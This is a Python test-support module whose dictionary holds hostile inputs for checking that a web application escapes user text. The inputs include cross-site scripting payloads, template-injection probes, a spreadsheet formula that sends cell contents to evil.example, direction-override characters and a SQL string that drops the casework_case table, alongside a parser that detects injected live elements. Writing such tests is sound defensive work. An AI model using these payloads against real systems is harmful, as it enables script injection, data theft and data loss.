"""Text that means harm, or that a careless program stumbles over; each by what it tries."""

from collections.abc import Iterator
from urllib.parse import urlencode
from xml.etree.ElementTree import Element

from html5lib import HTMLParser

#: Stands in all that tries to run or to load something.
MARK = "pwned"
LONG = 1_000_000
TEXTS = {
    "a script": f"<script>window.{MARK}=1</script><img src=x onerror={MARK}()><svg/onload={MARK}()>",
    "out of an attribute": f'"\' autofocus onfocus={MARK}() x="></textarea></title></style><b id={MARK}>',
    "a link": f'<a href="javascript:{MARK}()">x</a><base href="//evil.example/"><iframe src="//{MARK}">',
    "a template": "{{ 7|add:7 }}{% csrf_token %}{% include 'base.html' %}${7*7}%(name)s %s {0.__class__}",
    "a formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "directions": "\u202etxet \u2066neddih\u2069\u202c \u202aa\u202b \u202db \u2067c \u2068d",
    "no characters": "a\x00b\x01\x1b[31m\x7f\ufeff\ufffe\U000e0041",
    "half a character": "a\ud800b\udfff",
    "marks on marks": "Z" + "\u0301\u0489" * 400,
    "much": "x" * LONG,
    "a statement": "'; DROP TABLE casework_case; -- \\' \\\\",
}
#: What turns the direction of a page's own words.
DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
FOREIGN = ("iframe", "object", "embed", "base", "applet", "frame")


def encoded(data: dict[str, object]) -> str:
    """As a program sends it that does not ask whether it is text at all."""
    return urlencode(data, doseq=True, encoding="utf-8", errors="surrogatepass")


def alive(source: str) -> list[str]:
    """What of a page was made of the text: elements that run or load something, where it should be read."""
    root = HTMLParser(namespaceHTMLElements=False).parse(source)
    elements = [element for element in root.iter() if isinstance(element.tag, str)]
    return [fault for element in elements for fault in _made(element)]


def _made(element: Element) -> Iterator[str]:
    if element.tag in FOREIGN or element.get("id") == MARK:
        yield element.tag
    if element.tag == "script" and MARK in "".join(element.itertext()):
        yield "script"
    for name, value in element.attrib.items():
        runs = value.strip().lower().startswith("javascript:") and name in ("href", "src", "action")
        if name.startswith("on") or runs or (name == "src" and value == "x"):
            yield f"{element.tag} {name}"
